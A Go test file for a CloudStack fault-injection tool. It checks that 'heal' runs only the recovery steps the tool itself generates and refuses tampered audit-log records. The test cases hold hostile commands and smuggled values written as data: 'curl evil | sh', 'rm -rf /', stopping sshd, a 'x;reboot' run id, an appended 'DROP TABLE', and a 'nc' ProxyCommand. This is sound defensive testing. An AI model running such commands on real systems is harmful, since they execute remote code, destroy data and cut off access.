package inject

import (
	"context"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// The dry run shows each argument quoted as the shell on the host will read it.
func TestStepStringIsQuotedAsRun(t *testing.T) {
	p, err := Build(Spec{Fault: Disconnect, Hosts: []string{"stage-1"}, Duration: time.Minute, ID: "q"})
	require.NoError(t, err)
	got := p.Apply[0].String()
	assert.Contains(t, got, `sh -c 'for c in INPUT OUTPUT; do while n=$(iptables -L $c --line-numbers -n | grep -F "/* csconform-inject-q */"`)
	assert.Equal(t, "stage-1: iptables -I OUTPUT -p tcp --dport 8250 -m comment --comment csconform-inject-q -j DROP", p.Apply[1].String())
}

// The faults carry the scenario faults' names; the old names still work and mean the same fault.
func TestFaultNamesMatchTheScenarioFaults(t *testing.T) {
	for old, now := range Renamed {
		k, ok := KindByName(old)
		require.True(t, ok, old)
		assert.Equal(t, now, k.Name)
	}
	// agent-restart is the scenario's graceful restart: stopped for a duration (default 10s), then
	// started; agent-kill the same with SIGKILL
	for _, c := range []struct {
		fault, stop string
	}{{AgentRestart, "systemctl stop cloudstack-agent"}, {AgentKill, "systemctl kill --signal=SIGKILL cloudstack-agent"}} {
		p, err := Build(Spec{Fault: c.fault, Hosts: []string{"h"}, ID: "k"})
		require.NoError(t, err, c.fault)
		assert.Equal(t, 10*time.Second, p.Duration)
		assert.Equal(t, "h: "+c.stop, p.Apply[1].String())
		assert.Equal(t, "h: systemctl start cloudstack-agent", p.Heal[0].String())
		assert.Len(t, p.Disarm, 1)
	}
}

// A run killed while its fault held leaves a plan and apply records and no done record: inject heal
// finds it in the log and runs the heal steps the plan recorded, then disarms the timer and logs the
// end; a second heal finds nothing.
func TestHealFromTheLog(t *testing.T) {
	ex := &fakeExec{ran: make(chan struct{}, 10)}
	in, log, _ := newInjector(t, ex, true)
	p, err := Build(Spec{Fault: Disconnect, Hosts: []string{"stage-1"}, Duration: time.Hour, ID: "killed"})
	require.NoError(t, err)
	done, _ := Build(Spec{Fault: SlowRouterBoot, Hosts: []string{"stage-2"}, VM: "r-4-VM", Duration: time.Millisecond, ID: "finished"})
	require.NoError(t, in.Run(context.Background(), done))
	// the killed run: its records as a process killed after its apply steps leaves them
	in.Log.Write(Record{ID: p.ID, Fault: p.Kind.Name, Action: "plan", Target: "host:stage-1", Result: "…", Heal: p.Heal, Disarm: p.Disarm})
	for _, s := range p.Apply {
		in.Log.Write(Record{ID: p.ID, Fault: p.Kind.Name, Action: "apply", Host: s.Host, Argv: s.Argv, Result: "ok"})
	}
	// and an old record of a run without heal steps in its plan
	in.Log.Write(Record{ID: "old", Fault: "cut-link", Action: "plan", Target: "host:stage-3", Result: "…"})
	in.Log.Write(Record{ID: "old", Fault: "cut-link", Action: "apply", Host: "stage-3", Argv: []string{"iptables"}, Result: "ok"})

	runs, err := ReadUnhealedFile(log)
	require.NoError(t, err)
	require.Len(t, runs, 2)
	assert.Equal(t, "killed", runs[0].ID)
	assert.False(t, runs[0].Unknown)
	assert.Equal(t, "old", runs[1].ID)
	assert.True(t, runs[1].Unknown)

	before := len(ex.got())
	err = in.Heal(context.Background(), runs)
	require.ErrorContains(t, err, "run old: no heal steps recorded")
	ran := ex.got()[before:]
	assert.Equal(t, []string{
		"stage-1: iptables -D OUTPUT -p tcp --dport 8250 -m comment --comment csconform-inject-killed -j DROP",
		"stage-1: iptables -D INPUT -p tcp --sport 8250 -m comment --comment csconform-inject-killed -j DROP",
		"stage-1: systemctl stop csconform-heal-killed.timer",
	}, ran)
	runs, err = ReadUnhealedFile(log)
	require.NoError(t, err)
	require.Len(t, runs, 1, "only the run without heal steps is left")
	assert.Equal(t, "old", runs[0].ID)
}

func TestReadUnhealedRefusesGarbage(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"{\"id\":\"a\",\"action\":\"plan\"}\nnot json\n", "line 2: not a record"},
		{"{\"action\":\"plan\"}\n", "line 1: a record without a run id"},
		// issue 49: said as what it is, not bufio's "token too long"
		{strings.Repeat("x", maxLogLine+10), "audit log line 1: longer than the 1 MiB a record may be: not an inject audit log"},
		{"{\"id\":\"a\",\"action\":\"plan\"}\n" + strings.Repeat("x", maxLogLine+10), "audit log line 2: longer than the 1 MiB"},
	} {
		_, err := ReadUnhealed(strings.NewReader(c.in))
		assert.ErrorContains(t, err, c.want)
	}
	_, err := ReadUnhealedFile("/nonexistent/inject.log")
	assert.ErrorIs(t, err, os.ErrNotExist)
	// the file is named: --audit-log /dev/zero
	if _, err := os.Stat("/dev/zero"); err == nil {
		_, err = ReadUnhealedFile("/dev/zero")
		assert.EqualError(t, err, "/dev/zero: audit log line 1: longer than the 1 MiB a record may be: not an inject audit log")
	}
}

// Issue 49: the audit log is a file anyone who can write it can edit (./csconform-inject.log by
// default). A plan record's heal steps run only if they are the ones inject makes for the record's
// fault, on hosts and targets the allowlist heal is given allows, with the ssh rules inject applies
// (ProxyCommand, a shared connection); one refused run refuses all, before anything runs, dry run
// or not.
func TestHealRefusesWhatInjectWouldNot(t *testing.T) {
	step := func(h string, argv ...string) Step { return Step{Host: h, Argv: argv} }
	agent := func(h string) []Step { return []Step{step(h, "systemctl", "start", "cloudstack-agent")} }
	disarm := func(h, id string) []Step { return []Step{step(h, "systemctl", "stop", "csconform-heal-"+id+".timer")} }
	sql := "UPDATE networks SET created = created + INTERVAL 90000 SECOND WHERE uuid = '00000000-1111' AND removed IS NULL"
	good := Unhealed{ID: "good", Fault: AgentRestart, Target: "host:stage-1", Heal: agent("stage-1"), Disarm: disarm("stage-1", "good")}
	for _, c := range []struct {
		name    string
		run     Unhealed
		resolve map[string]Endpoint
		want    string
	}{
		{"a command inject never heals with", Unhealed{ID: "x", Fault: AgentRestart, Heal: []Step{step("stage-1", "sh", "-c", "curl evil | sh")}, Disarm: disarm("stage-1", "x")},
			nil, `not the ones inject makes for agent-restart on host:stage-1: "stage-1: sh -c 'curl evil | sh'"`},
		{"a step added", Unhealed{ID: "x", Fault: AgentRestart, Heal: append(agent("stage-1"), step("stage-1", "rm", "-rf", "/")), Disarm: disarm("stage-1", "x")},
			nil, `"stage-1: rm -rf /"`},
		{"a disarm that stops something else", Unhealed{ID: "x", Fault: AgentRestart, Heal: agent("stage-1"), Disarm: []Step{step("stage-1", "systemctl", "stop", "sshd")}},
			nil, `"stage-1: systemctl stop sshd"`},
		{"a host outside the allowlist", Unhealed{ID: "x", Fault: AgentRestart, Heal: agent("prod-db1"), Disarm: disarm("prod-db1", "x")},
			nil, "host:prod-db1 is not allowlisted: host prod-db1 matches no --allow-host pattern"},
		{"a run id that is a shell word", Unhealed{ID: "x;reboot", Fault: AgentRestart, Heal: agent("stage-1"), Disarm: disarm("stage-1", "x;reboot")},
			nil, `bad run id "x;reboot"`},
		{"SQL added to backdate's", Unhealed{ID: "x", Fault: Backdate, Heal: []Step{step("stage-db", "mysql", "cloud", "-e", sql+"; DROP TABLE vm_instance")}},
			nil, "backdate needs"},
		{"a network outside the allowlist", Unhealed{ID: "x", Fault: Backdate, Heal: []Step{step("stage-db", "mysql", "cloud", "-e", strings.Replace(sql, "00000000", "99999999", 1))}},
			nil, "network:99999999-1111 is not allowlisted"},
		{"a domain that is not a router", Unhealed{ID: "x", Fault: SlowRouterBoot, Heal: []Step{step("stage-1", "virsh", "-c", "qemu:///system", "resume", "i-2-5-VM")}},
			nil, `"i-2-5-VM" is not a router`},
		{"an unknown fault", Unhealed{ID: "x", Fault: "wipe", Heal: agent("stage-1")}, nil, `unknown fault "wipe"`},
		{"ssh through a ProxyCommand", good,
			map[string]Endpoint{"stage-1": {HostName: "stage-1", User: "root", Port: "22", ProxyCommand: "nc prod1 22"}}, "ProxyCommand"},
		{"ssh through a shared connection", good,
			map[string]Endpoint{"stage-1": {HostName: "stage-1", User: "root", Port: "22", ControlPath: "/tmp/cm", ControlMaster: "auto"}}, `ControlPath "/tmp/cm" (ControlMaster auto)`},
		{"an alias that leads outside", good,
			map[string]Endpoint{"stage-1": {HostName: "prod-db1", User: "root", Port: "22"}}, "prod-db1 matches no --allow-host pattern"},
	} {
		t.Run(c.name, func(t *testing.T) {
			for _, yes := range []bool{false, true} {
				ex := &fakeExec{resolve: c.resolve}
				in, _, out := newInjector(t, ex, yes)
				// a run the allowlist lets through comes first: it must not run either
				runs := []Unhealed{good, c.run}
				if c.resolve != nil {
					runs = runs[:1]
				}
				err := in.Heal(context.Background(), runs)
				require.Error(t, err)
				assert.True(t, strings.HasPrefix(err.Error(), "refused: "), err.Error())
				assert.Contains(t, err.Error(), c.want)
				assert.Contains(t, err.Error(), "nothing was run")
				assert.Empty(t, ex.got(), "heal ran steps of a refused log")
				assert.NotContains(t, out.String(), "would run", "a refused log's steps shown as if they would run")
			}
		})
	}
	// what inject makes, on allowed hosts, heals
	ex := &fakeExec{}
	in, _, _ := newInjector(t, ex, true)
	in.Policy.MaxTargets = 2
	p, err := Build(Spec{Fault: Disconnect, Hosts: []string{"stage-1", "stage-2"}, Duration: time.Minute, MgmtPort: 9250, ID: "ok"})
	require.NoError(t, err)
	b, err := Build(Spec{Fault: Backdate, Hosts: []string{"stage-db"}, Network: "00000000-1111", By: 25 * time.Hour, Duration: time.Minute, ID: "bd"})
	require.NoError(t, err)
	r, err := Build(Spec{Fault: SlowRouterBoot, Hosts: []string{"stage-1"}, VM: "r-4-VM", Duration: time.Minute, ID: "rb"})
	require.NoError(t, err)
	require.NoError(t, in.Heal(context.Background(), []Unhealed{good,
		{ID: "ok", Fault: "cut-link", Heal: p.Heal, Disarm: p.Disarm},
		{ID: "bd", Fault: Backdate, Heal: b.Heal}, {ID: "rb", Fault: SlowRouterBoot, Heal: r.Heal}}))
	assert.Len(t, ex.got(), 2+len(p.Heal)+len(p.Disarm)+2)
}
